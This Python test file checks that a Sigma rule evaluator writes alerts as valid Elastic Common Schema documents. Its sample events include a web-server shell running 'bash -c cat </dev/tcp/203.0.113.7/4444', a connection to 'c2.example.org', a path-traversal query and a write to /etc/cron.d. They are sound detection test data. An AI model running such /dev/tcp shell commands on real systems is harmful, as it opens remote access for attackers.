"""ECS alert documents: the fields of each kind of log, and no field or type that ECS does not have."""

from __future__ import annotations

import io
import ipaddress
import json
from collections.abc import Iterator
from datetime import datetime
from typing import Any

import pytest

from sigma.pyeval.findings import Finding
from sigma.pyeval.reports.ecs import _CATEGORIES, _SERVICES, ECS_VERSION, EcsWriter, ecs_document
from sigma.pyeval.rules import LogSource, Match, Rule

from . import ecs_schema
from .samples import FILE, FINDINGS, HOSTILE, LOGIN, NET, NOW, SHELL, WEB, extreme_events, hostile_finding

KINDS_OF_JSON: dict[str, type | tuple[type, ...]] = {
    "keyword": str, "wildcard": str, "match_only_text": str, "date": str, "ip": str, "long": int, "float": (int, float), "object": dict,
}  # fmt: skip


def flat(document: dict[str, Any], prefix: str = "") -> Iterator[tuple[str, Any]]:
    """Yield the document's fields by their dotted names."""
    for key, value in document.items():
        if isinstance(value, dict) and prefix + key != "labels":
            yield from flat(value, f"{prefix}{key}.")
        else:
            yield prefix + key, value


def misfits(document: dict[str, Any]) -> list[str]:
    """Return the fields that ECS does not have, or has with another type."""
    found = []
    for name, value in flat(document):
        kind = ecs_schema.FIELDS.get(name)
        values = value if isinstance(value, list) else [value]
        if kind is None or isinstance(value, list) != kind.endswith("[]"):
            found.append(name)
            continue
        base = kind.removesuffix("[]")
        if not all(isinstance(one, KINDS_OF_JSON[base]) and not isinstance(one, bool) for one in values):
            found.append(name)
        elif base == "ip":
            [ipaddress.ip_address(one) for one in values]
        elif base == "date":
            [datetime.fromisoformat(one) for one in values]
    return found


@pytest.mark.parametrize("finding", FINDINGS, ids=lambda finding: finding.match.rule.title)
def test_every_field_is_one_of_ecs(finding: Finding) -> None:
    """Name, type, and array or not, by the published field reference of the version written."""
    assert ECS_VERSION == ecs_schema.VERSION
    assert misfits(ecs_document(finding, NOW)) == []


def test_the_check_itself_finds_misfits() -> None:
    """An invented name, a number as text and a list where one value belongs are found."""
    assert misfits({"rule": {"title": "x"}, "event": {"severity": "5"}, "tags": "x", "host": {"name": ["x"]}}) == [
        "rule.title", "event.severity", "tags", "host.name",
    ]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:30])
def test_hostile_text_misfits_nowhere(text: str) -> None:
    """Text where a number or an address belongs is left out of that field, never written there."""
    document = ecs_document(hostile_finding(text), NOW)
    assert misfits(document) == []
    assert text in json.loads(document["event"]["original"])


def test_extreme_events_misfit_nowhere() -> None:
    """Numbers out of range, values of the wrong kind, depth and size."""
    for event in extreme_events():
        assert misfits(ecs_document(SHELL._replace(match=Match(SHELL.match.rule, event)), NOW)) == []


def test_an_alert_says_what_when_and_by_which_rule() -> None:
    """The fields that every finding has."""
    document = ecs_document(SHELL, NOW)
    assert document["@timestamp"] == "2026-11-20T18:40:01.000Z"
    assert document["event"] | {"original": ""} == {
        "kind": "alert", "category": ["intrusion_detection", "process"], "type": ["info", "start"], "severity": 73,
        "created": "2026-11-21T12:00:00.000Z", "module": "sigma", "provider": "sigma-pyeval", "id": "77", "original": "",
    }  # fmt: skip
    assert json.loads(document["event"]["original"]) == SHELL.match.event
    assert document["rule"] == {
        "id": "11111111-1111-4111-8111-111111111111", "uuid": "11111111-1111-4111-8111-111111111111",
        "name": "Shell Opens A Network Device File", "description": "A shell talks to another machine by itself.",
        "reference": "https://example.org/shells", "author": ["A. Author, B. Author"], "license": "MIT", "ruleset": "Sigma",
    }  # fmt: skip
    assert document["threat"] == {
        "framework": "MITRE ATT&CK",
        "tactic": {"id": ["TA0002"], "name": ["Execution"], "reference": ["https://attack.mitre.org/tactics/TA0002/"]},
        "technique": {
            "id": ["T1059"], "reference": ["https://attack.mitre.org/techniques/T1059/"],
            "subtechnique": {"id": ["T1059.004"], "reference": ["https://attack.mitre.org/techniques/T1059/004/"]},
        },
        "group": {"id": "G0007"},
        "software": {"id": "S0154"},
    }  # fmt: skip
    assert document["message"] == "Shell Opens A Network Device File: bash -c cat </dev/tcp/203.0.113.7/4444"
    assert document["log"]["file"]["path"] == "/var/log/1.log"
    assert document["labels"]["line"] == "1"
    assert document["tags"] == list(SHELL.match.rule.tags)


BY_LOG = [
    (SHELL, "process", {
        "pid": 4101, "name": "bash", "executable": "/usr/bin/bash", "command_line": "bash -c cat </dev/tcp/203.0.113.7/4444",
        "working_directory": "/var/www",
        "parent": {"pid": 4090, "name": "php-fpm", "executable": "/usr/sbin/php-fpm", "command_line": "php-fpm: pool www"},
    }),
    (SHELL, "user", {"name": "www-data", "id": "33"}),
    (SHELL, "host", {"name": "web-1"}),
    (SHELL, "http", None),
    (LOGIN, "log", {"file": {"path": "/var/log/2.log"}, "syslog": {"appname": "sshd", "facility": {"code": 10}, "severity": {"code": 6}}}),
    (LOGIN, "process", {"pid": 811}),
    (WEB, "http", {"request": {"method": "GET"}, "response": {"status_code": 404, "body": {"bytes": 12}}, "version": "1.1"}),
    (WEB, "url", {"domain": "www.example.org", "original": "/a?f=../x", "path": "/a", "query": "f=../x"}),
    (WEB, "user_agent", {"original": "curl/8"}),
    (WEB, "source", {"address": "203.0.113.7", "ip": "203.0.113.7"}),
    (WEB, "process", None),
    (FILE, "file", {"path": "/etc/cron.d/x"}),
    (NET, "destination", {"address": "203.0.113.7", "ip": "203.0.113.7", "domain": "c2.example.org", "port": 443}),
    (NET, "source", {"address": "::1", "ip": "::1", "port": 51000}),
    (NET, "network", {"transport": "tcp", "direction": "egress"}),
    (NET, "host", None),
]  # fmt: skip


@pytest.mark.parametrize(("finding", "fieldset", "expected"), BY_LOG)
def test_each_log_fills_its_field_sets(finding: Finding, fieldset: str, expected: dict[str, Any] | None) -> None:
    """What the event says is there; what it does not say is not."""
    assert ecs_document(finding, NOW).get(fieldset) == expected


def test_categories_and_types_belong_together() -> None:
    """Each event.type written is one that ECS expects in the category."""
    for category, kind in [*_CATEGORIES.values(), *_SERVICES.values()]:
        assert kind in ecs_schema.CATEGORIES[category].split()
    assert "info" in ecs_schema.CATEGORIES["intrusion_detection"].split()
    assert "alert" in ecs_schema.KINDS.split()


@pytest.mark.parametrize(
    ("logsource", "category"),
    [
        (LogSource("file_event"), ["intrusion_detection", "file"]),
        (LogSource(None, "linux", "sudo"), ["intrusion_detection", "authentication"]),
        (LogSource(None, "aws", "cloudtrail"), ["intrusion_detection", "api"]),
        (LogSource(None, "linux"), ["intrusion_detection"]),
    ],
)  # fmt: skip
def test_the_category_follows_the_log_source(logsource: LogSource, category: list[str]) -> None:
    """An alert is always intrusion detection, and what its log is about."""
    rule = Rule(None, "x", "exists(event, 'x')", logsource=logsource)
    assert ecs_document(Finding(Match(rule, {}), "x", 1, LogSource()), NOW)["event"]["category"] == category


def test_an_event_without_time_has_the_time_of_writing() -> None:
    """@timestamp is required; a rule without level has no severity."""
    document = ecs_document(FILE, NOW)
    assert document["@timestamp"] == document["event"]["created"] == "2026-11-21T12:00:00.000Z"
    assert "severity" not in ecs_document(WEB, NOW)["event"]


def test_documents_are_lines() -> None:
    """One object a line, in order."""
    stream = io.BytesIO()
    writer = EcsWriter(stream, lambda: NOW)
    for finding in FINDINGS:
        writer.write(finding)
    writer.close()
    lines = stream.getvalue().splitlines()
    assert [json.loads(line) for line in lines] == [ecs_document(finding, NOW) for finding in FINDINGS]
